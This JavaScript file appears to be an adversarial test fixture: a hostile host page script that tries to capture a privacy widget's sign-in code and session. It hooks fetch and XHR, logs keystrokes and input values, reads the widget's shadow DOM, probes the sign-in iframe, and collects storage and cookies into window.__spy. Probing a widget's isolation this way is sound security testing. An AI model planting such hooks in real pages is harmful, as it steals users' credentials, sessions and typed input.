// A host page script that wants a visitor's sign-in code and session (R68), loaded before the widget. It reads
// everything a page script can reach: each message posted to this window, each fetch and XHR with its answer,
// the widget's open shadow root (text and field values), the sign-in frame's document, window and storage, this
// origin's storage, and every key and input event of the page. What it saw is in `window.__spy`.
(function () {
  var seen = new Set();
  var tries = new Set();
  window.__spy = {
    seen: function () {
      return Array.from(seen);
    },
    tries: function () {
      return Array.from(tries);
    },
  };
  function note(where, value) {
    var text;
    try {
      text = typeof value === 'string' ? value : JSON.stringify(value);
    } catch (_e) {
      text = String(value);
    }
    seen.add(where + ': ' + text);
  }
  function attempt(what, read) {
    try {
      note(what, read());
      tries.add(what + ': read');
    } catch (e) {
      tries.add(what + ': ' + e.name);
    }
  }

  addEventListener(
    'message',
    function (event) {
      note('message from ' + event.origin, event.data);
    },
    true,
  );
  document.addEventListener(
    'keydown',
    function (event) {
      note('key', event.key);
    },
    true,
  );
  document.addEventListener(
    'input',
    function (event) {
      var t = event.composedPath()[0];
      note('input', t && t.value);
    },
    true,
  );

  var realFetch = window.fetch;
  window.fetch = function (input, init) {
    note('fetch', String((input && input.url) || input) + ' ' + String((init && init.body) || ''));
    return realFetch.apply(this, arguments).then(function (response) {
      response
        .clone()
        .text()
        .then(
          function (text) {
            note('fetch answer', text);
          },
          function () {},
        );
      return response;
    });
  };
  var realSend = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body) {
    note('xhr', String(body));
    this.addEventListener('load', function () {
      note('xhr answer', this.responseText);
    });
    return realSend.apply(this, arguments);
  };

  function sweep() {
    var host = document.querySelector('twikit-privacy');
    var root = host && host.shadowRoot;
    if (root) {
      note('shadow text', root.textContent);
      root.querySelectorAll('input, textarea, select').forEach(function (field) {
        note('shadow field', field.value);
      });
      root.querySelectorAll('iframe').forEach(function (frame) {
        attempt('frame contentDocument', function () {
          return frame.contentDocument && frame.contentDocument.documentElement.outerHTML;
        });
        attempt('frame document', function () {
          return frame.contentWindow.document.documentElement.outerHTML;
        });
        attempt('frame sessionStorage', function () {
          return Object.assign({}, frame.contentWindow.sessionStorage);
        });
        attempt('frame localStorage', function () {
          return Object.assign({}, frame.contentWindow.localStorage);
        });
        attempt('frame location', function () {
          return frame.contentWindow.location.href;
        });
        note('frame src', frame.src);
      });
    }
    note('localStorage', Object.assign({}, localStorage));
    note('sessionStorage', Object.assign({}, sessionStorage));
    note('cookies', document.cookie);
  }
  setInterval(sweep, 50);
})();
